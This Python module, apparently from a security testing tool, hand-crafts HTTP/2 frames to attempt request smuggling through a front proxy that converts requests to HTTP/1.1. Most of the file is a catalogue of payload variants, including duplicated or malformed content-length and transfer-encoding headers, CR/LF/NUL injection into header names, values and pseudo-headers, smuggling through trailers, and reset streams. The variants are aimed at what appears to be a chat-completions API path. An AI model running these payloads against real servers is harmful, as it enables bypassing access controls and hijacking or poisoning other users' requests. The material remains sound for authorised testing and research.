"""Owns request smuggling by way of HTTP/2: frames with what no HTTP/1.1 request may have in a line, for whoever in front
turns the one into the other. Written by hand, since no library would send them. Knows nothing of what should come of it."""

import socket
import struct
import time
from collections.abc import Callable
from typing import NamedTuple

from caller import END, PATIENCE, QUIET, Front, Request, read_for
from forms import LAST, chunk
from proxies import NAME

DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
Pairs = list[tuple[bytes, bytes]]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: bytes) -> bytes:
    """RFC 7541, 5.2, without Huffman's code."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    more, left = b"", len(value) - 127
    while left >= 128:
        more, left = more + bytes([left % 128 + 128]), left // 128
    return b"\x7f" + more + bytes([left]) + value


def block(pairs: Pairs) -> bytes:
    """RFC 7541, 6.2.2: each name and value in full."""
    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs)


def asked(stream: int, pairs: Pairs, data: bytes | None, trailers: Pairs = ()) -> bytes:
    last = 0 if trailers else END_STREAM
    out = frame(HEADERS, END_HEADERS | (END_STREAM if data is None else 0), stream, block(pairs))
    if data is not None:
        out += frame(DATA, last, stream, data)
    return out + (frame(HEADERS, END_HEADERS | END_STREAM, stream, block(list(trailers))) if trailers else b"")


def pairs_of(o: Request, more: Pairs = (), **pseudo: bytes) -> Pairs:
    """The request's headers; `pseudo` are others for its method, path, scheme and authority."""
    usual = {"method": b"POST", "scheme": b"https", "authority": NAME.encode(), "path": b"/v1/chat/completions"} | pseudo
    said = [line.split(b": ", 1) for line in o.lines.split(b"\r\n") if line and not line.startswith(b"Host")]
    return ([(b":" + name.encode(), value) for name, value in usual.items()]
            + [(name.lower(), value) for name, value in said] + [(b"content-type", b"application/json")] + list(more))


class FormOfFrames(NamedTuple):
    name: str
    build: Callable[[Request, bytes], bytes]


def with_lines(name: str, pairs: Callable[[bytes], Pairs], data: Callable[[bytes, bytes], bytes], trailers: Pairs = ()) -> FormOfFrames:
    return FormOfFrames(name, lambda o, h: asked(1, pairs_of(o, pairs(h)), data(o.body, h), trailers))


def with_pseudo(name: str, pseudo: Callable[[bytes], dict[str, bytes]]) -> FormOfFrames:
    return FormOfFrames(name, lambda o, h: asked(1, pairs_of(o, **pseudo(h)), o.body))


def in_chunks(body: bytes, hidden: bytes) -> bytes:
    return chunk(body) + LAST + hidden


def both(body: bytes, hidden: bytes) -> bytes:
    return body + hidden


def all_forms() -> list[FormOfFrames]:
    te, cl = b"transfer-encoding", b"content-length"
    forms = [
        with_lines("encoding", lambda h: [(te, b"chunked")], in_chunks),
        with_lines("encoding in capitals", lambda h: [(b"Transfer-Encoding", b"chunked")], in_chunks),
        with_lines("encoding named by connection", lambda h: [(b"connection", te), (te, b"chunked")], in_chunks),
        with_lines("encoding with a space", lambda h: [(te + b" ", b"chunked")], in_chunks),
        with_lines("encoding with a tab", lambda h: [(te, b"\tchunked")], in_chunks),
        with_lines("encoding of other words", lambda h: [(te, b"chunked, identity")], in_chunks),
        with_lines("encoding with a colon", lambda h: [(te + b": chunked\r\nx", b"a")], in_chunks),
        with_lines("length of nothing", lambda h: [(cl, b"0")], lambda b, h: h),
        with_lines("length of nothing, GET", lambda h: [(cl, b"0")], both),
        with_lines("length too short", lambda h: [(cl, b"20")], both),
        with_lines("length too long", lambda h: [(cl, b"4000")], both),
        with_lines("length with a sign", lambda h: [(cl, b"+20")], both),
        with_lines("two lengths", lambda h: [(cl, b"20"), (cl, b"4000")], both),
        with_lines("a list of lengths", lambda h: [(cl, b"20, 20")], both),
        with_lines("length with CR and LF", lambda h: [(cl, b"20\r\nx: a")], both),
        with_lines("no length", lambda h: [], both),
        with_lines("upgrade", lambda h: [(b"connection", b"upgrade"), (b"upgrade", b"h2c")], both),
        with_lines("te", lambda h: [(b"te", b"chunked")], in_chunks),
        with_lines("host as well", lambda h: [(b"host", b"b\r\n\r\n" + h)], both),
        with_lines("a pseudo-header behind others", lambda h: [(b":path", b"/v1/nothing")], both),
        with_lines("an unknown pseudo-header", lambda h: [(b":x", b"a\r\n\r\n" + h)], both),
        with_lines("no name", lambda h: [(b"", b"a: b\r\n\r\n" + h)], both),
        with_lines("cookie", lambda h: [(b"cookie", b"a=b\r\n\r\n" + h)], both),
        with_lines("user-agent", lambda h: [(b"user-agent", b"a\r\n\r\n" + h)], both),
        with_lines("openai-project", lambda h: [(b"openai-project", b"a\r\n\r\n" + h)], both),
        with_lines("trailer of length", lambda h: [], lambda b, h: b, [(cl, b"1")]),
        with_lines("trailer of encoding", lambda h: [], lambda b, h: b, [(te, b"chunked")]),
        with_lines("trailer with a pseudo-header", lambda h: [], lambda b, h: b, [(b":path", b"/")]),
        with_lines("trailer with CR and LF", lambda h: [], lambda b, h: b, [(b"x", b"a\r\n\r\nGET /v1/models HTTP/1.1\r\n\r\n")]),
    ]
    for end in (b"\r\n", b"\n", b"\r", b"\x00", b"\r\n "):
        what = repr(end)[2:-1]
        forms += [
            with_lines(f"encoding behind {what} in a value", lambda h, e=end: [(b"x", b"a" + e + b"transfer-encoding: chunked")], in_chunks),
            with_lines(f"encoding behind {what} in a name", lambda h, e=end: [(b"x: a" + e + te, b"chunked")], in_chunks),
            with_lines(f"hidden behind {what} in a value", lambda h, e=end: [(b"x", b"a" + e + e + h)], lambda b, h: b),
            with_lines(f"hidden behind {what} in a name", lambda h, e=end: [(b"x: a" + e + e + h + b"y", b"a")], lambda b, h: b),
            with_pseudo(f"hidden behind {what} in the path", lambda h, e=end: {"path": b"/v1/models HTTP/1.1" + e + b"host: a" + e + e + h}),
            with_pseudo(f"hidden behind {what} in the method", lambda h, e=end: {"method": b"GET /v1/models HTTP/1.1" + e + b"host: a" + e + e + h}),
            with_pseudo(f"hidden behind {what} in the authority", lambda h, e=end: {"authority": b"a" + e + e + h}),
            with_pseudo(f"hidden behind {what} in the scheme", lambda h, e=end: {"scheme": b"https://a/v1/models HTTP/1.1" + e + e + h}),
        ]
    forms += [
        with_pseudo("a version in the path", lambda h: {"path": b"/v1/chat/completions HTTP/1.1"}),
        with_pseudo("a URL as path", lambda h: {"path": b"http://b/v1/chat/completions"}),
        with_pseudo("an empty path", lambda h: {"path": b""}),
        with_pseudo("a path without its slash", lambda h: {"path": b"@b/v1"}),
        with_pseudo("a fragment", lambda h: {"path": b"/v1/chat/completions#a"}),
        with_pseudo("a space in the method", lambda h: {"method": b"POST /v1/models"}),
        with_pseudo("CONNECT", lambda h: {"method": b"CONNECT"}),
        with_pseudo("HEAD with a body", lambda h: {"method": b"HEAD"}),
        with_pseudo("a user in the authority", lambda h: {"authority": b"a@b"}),
        with_pseudo("an empty authority", lambda h: {"authority": b""}),
        FormOfFrames("GET with a body", lambda o, h: asked(1, pairs_of(o, method=b"GET", path=b"/v1/models"), h)),
        FormOfFrames("nobody reads the body", lambda o, h: asked(1, pairs_of(o, path=b"/healthz"), h)),
        FormOfFrames("a stream that is not ended", lambda o, h: frame(HEADERS, END_HEADERS, 1, block(pairs_of(o))) + frame(DATA, 0, 1, o.body + h)),
        FormOfFrames("a stream that is reset", lambda o, h: frame(HEADERS, END_HEADERS, 1, block(pairs_of(o))) + frame(DATA, 0, 1, h)
                     + frame(RESET, 0, 1, struct.pack(">I", 8))),
    ]
    return forms


FORMS_OF_FRAMES = all_forms()


def speak(front: Front, parts: list[bytes], seen) -> dict[int, bytes]:
    """Sends the parts on a new connection; the data that came on each stream, and what was no frame as that of stream -1."""
    with front.connect("h2") as connection:
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for part in parts:
                connection.sendall(part)
        except OSError:
            pass
        return heard(connection, seen)


def heard(connection: socket.socket, seen) -> dict[int, bytes]:
    """All that comes till the last stream ends, nothing comes any more, or it has taken too long."""
    came, data, ended = b"", {}, set()
    enough = time.monotonic() + PATIENCE
    while 3 not in ended and time.monotonic() < enough:
        piece = read_for(connection, QUIET)
        if piece.endswith(END) or not piece and seen() <= data.keys():
            break
        came += piece
        while len(came) >= 9 and len(came) >= (end := 9 + int.from_bytes(came[:3], "big")):
            kind, flags, stream, payload = came[3], came[4], int.from_bytes(came[5:9], "big"), came[9:end]
            came = came[end:]
            if kind == DATA:
                data[stream] = data.get(stream, b"") + payload
            if kind == RESET or kind in (DATA, HEADERS) and flags & END_STREAM:
                ended.add(stream)
            if kind in (SETTINGS, PING) and not flags & ACK:
                try:
                    connection.sendall(frame(kind, ACK, 0, payload if kind == PING else b""))
                except OSError:
                    pass
    return data | ({-1: came} if came else {})
